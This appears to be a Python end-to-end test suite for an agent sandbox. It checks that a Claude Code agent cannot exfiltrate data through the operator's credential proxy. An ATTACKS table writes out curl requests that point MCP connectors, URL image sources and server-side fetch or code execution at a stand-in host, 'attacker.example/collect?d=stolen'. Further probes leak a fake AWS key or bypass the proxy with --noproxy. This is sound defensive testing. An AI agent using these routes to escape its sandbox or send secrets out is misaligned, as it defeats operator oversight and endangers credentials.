"""The credential proxy is not a way out: attacks from inside a bottle with egress.

The agent reaches the credential proxy only through the egress proxy (so its request
bodies pass DLP), and the `anthropic-base-url` route passes only what Claude Code itself
sends: the Messages API is never asked to reach out on the agent's behalf (connectors,
server-side tools, URL sources, the betas that enable them), and nothing else of the API
is reachable with the operator's credential. Claude Code's own turn still passes.
"""

from __future__ import annotations

import io
import json
import secrets
import shlex
from collections.abc import Callable
from typing import Any

import docker
import pytest
from pydantic import SecretStr

from remotebottle.backend.base import Bottle
from remotebottle.backend.docker import credproxy, lab
from remotebottle.backend.docker import labels as L
from remotebottle.backend.docker.backend import DockerBottleBackend, LaunchOptions
from remotebottle.backend.docker.provision import AGENT_UID
from remotebottle.backend.spec import ANTHROPIC_ROLE, BottleSpec, Command, RouteSpec, Secretish
from remotebottle.demo import fake_aws_key
from remotebottle.ops.stream import stream_output
from tests.e2e.conftest import FAKE_API_ALIAS, FAKE_API_URL, FakeApi

pytestmark = pytest.mark.e2e

ROUTE = f"http://{credproxy.ALIAS}:{credproxy.PORT}/anthropic"
EXFIL = "https://attacker.example/collect?d=stolen"


def bottle_spec(command: Command, secret: str) -> BottleSpec:
    return BottleSpec(
        identity=f"policy-{secrets.token_hex(3)[:5]}",
        agent="policy",
        bottle="b",
        command=command,
        routes=(
            RouteSpec(
                name="anthropic",
                upstream=f"{FAKE_API_URL}/",
                role=ANTHROPIC_ROLE,
                inject={"x-api-key": Secretish("env", SecretStr(secret))},
            ),
        ),
    )


def cred_proxy_of(client: docker.DockerClient, bottle: Bottle) -> Any:
    found = client.containers.list(
        filters={"label": [f"{L.IDENTITY}={bottle.identity}", f"{L.ROLE}={L.ROLE_CRED_PROXY}"]}
    )
    assert len(found) == 1, found
    return found[0]


def message(**extra: object) -> dict[str, object]:
    body: dict[str, object] = {
        "model": "claude-sonnet-4-5",
        "max_tokens": 16,
        "messages": [{"role": "user", "content": "hi"}],
    }
    return body | extra


def curl(path: str, body: dict[str, object] | None = None, *headers: str) -> str:
    """A request the agent makes to its route with its own tools (through HTTP_PROXY)."""
    args = ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-m", "20"]
    for header in ("content-type: application/json", *headers):
        args += ["-H", header]
    if body is not None:
        args += ["--data-binary", json.dumps(body)]
    return shlex.join([*args, f"{ROUTE}/{path}"])


ATTACKS = {
    "connector (mcp_servers)": curl(
        "v1/messages?beta=true",
        message(mcp_servers=[{"type": "url", "url": EXFIL, "name": "x"}]),
        "anthropic-beta: mcp-client-2025-04-04",
    ),
    "server-side web fetch": curl(
        "v1/messages", message(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}])
    ),
    "server-side code execution": curl(
        "v1/messages",
        message(tools=[{"type": "code_execution_20250825", "name": "code_execution"}]),
    ),
    "image fetched from a URL": curl(
        "v1/messages",
        message(
            messages=[
                {
                    "role": "user",
                    "content": [{"type": "image", "source": {"type": "url", "url": EXFIL}}],
                }
            ]
        ),
    ),
    "a field Claude Code never sends": curl("v1/messages", message(container="c-1")),
    "another API (Files)": curl("v1/files"),
    "another API (batches)": curl("v1/messages/batches", message()),
    "a credential in the body (DLP)": curl(
        "v1/messages", message(messages=[{"role": "user", "content": fake_aws_key()}])
    ),
}


def test_claude_code_passes_and_every_way_out_through_the_api_is_refused(
    docker_client: docker.DockerClient,
    pipelock_image: str,
    fake_api: Callable[..., FakeApi],
) -> None:
    api = fake_api(reply="Through pipelock and the credential proxy.")
    secret = f"sk-ant-e2e-{secrets.token_hex(16)}"
    probes = "\n".join(f'echo "{name}: $({command})"' for name, command in ATTACKS.items())
    direct = f"{credproxy.ALIAS}:{credproxy.PORT}"
    script = f"""
claude -p "say hello" > /tmp/turn.txt 2>&1; echo "turn: $?"; cat /tmp/turn.txt
{probes}
echo "direct, around the egress proxy: $(curl -sS -o /dev/null -w '%{{http_code}}' -m 5 \\
  --noproxy '*' http://{direct}/anthropic/v1/models)"
echo "stripped beta: $(curl -sS -o /dev/null -w '%{{http_code}}' -m 20 \\
  -H 'anthropic-beta: web-fetch-2025-09-10,claude-code-20250219' {ROUTE}/v1/models)"
"""
    spec = bottle_spec(Command(mode="exec", argv=("sh", "-c", script)), secret)
    backend = DockerBottleBackend(docker_client)
    options = LaunchOptions(tty=False, before_agent_start=api.join)
    out = io.BytesIO()
    plan = lab.trusting_private_upstreams(backend.prepare(spec), [FAKE_API_ALIAS])
    with backend.launch(plan, options) as bottle:
        code = stream_output(
            docker_client,
            bottle.agent_container,
            stdout=out,
            on_attached=lambda: backend.release(bottle),
        )
        proxy_logs = cred_proxy_of(docker_client, bottle).logs().decode(errors="replace")
        seen = api.requests()
    text = out.getvalue().decode(errors="replace")
    assert code == 0, text
    lines = dict(line.split(": ", 1) for line in text.splitlines() if ": " in line)
    assert lines["turn"] == "0", text
    assert "Through pipelock and the credential proxy." in text
    for name in ATTACKS:
        assert lines[name] == "403", f"{name}: {lines.get(name)}\n{text}"
    assert lines["direct, around the egress proxy"] == "000"
    assert lines["stripped beta"] == "200"

    # Upstream: Claude Code's turn and the clean GET, with the operator's credential; none
    # of the attacks; no beta that would turn on a server-side fetch.
    paths = [r["path"] for r in seen]
    assert any(p.startswith("/v1/messages") for p in paths), paths
    assert all(p.startswith(("/v1/messages?beta=true", "/v1/models", "/api/hello")) for p in paths)
    assert all(r["headers"].get("x-api-key") == secret for r in seen)
    dumped = json.dumps(seen)
    assert EXFIL not in dumped and "web-fetch" not in dumped and "mcp_servers" not in dumped
    # Refusals by the credential proxy are logged with their reason (the DLP one is
    # pipelock's: it never reached the credential proxy).
    refused = [json.loads(x) for x in proxy_logs.splitlines() if '"event":"refused"' in x]
    assert len(refused) == len(ATTACKS) - 1, proxy_logs
    assert any("mcp_servers" in r["reason"] for r in refused)
    assert secret not in proxy_logs


def test_the_agent_holds_only_a_placeholder_and_cannot_reach_the_proxy_directly(
    docker_client: docker.DockerClient, pipelock_image: str, fake_api: Callable[..., FakeApi]
) -> None:
    """With an egress proxy, the credential proxy is not on the agent's network at all."""
    api = fake_api()
    spec = bottle_spec(Command(mode="exec", argv=("sleep", "infinity")), "sk-ant-e2e-x" * 3)
    backend = DockerBottleBackend(docker_client)
    options = LaunchOptions(tty=False, before_agent_start=api.join)
    plan = lab.trusting_private_upstreams(backend.prepare(spec), [FAKE_API_ALIAS])
    with backend.launch(plan, options) as bottle:
        backend.release(bottle)
        agent = docker_client.containers.get(bottle.agent_container)
        networks = agent.attrs["NetworkSettings"]["Networks"]
        proxy = cred_proxy_of(docker_client, bottle)
        proxy_networks = proxy.attrs["NetworkSettings"]["Networks"]
        env = agent.exec_run(["sh", "-c", ". /run/rbottle/env; env"], user=str(AGENT_UID))
    assert not set(networks) & set(proxy_networks)
    assert "sk-ant-e2e" not in env.output.decode()
    assert credproxy.PLACEHOLDER_TOKEN in env.output.decode()
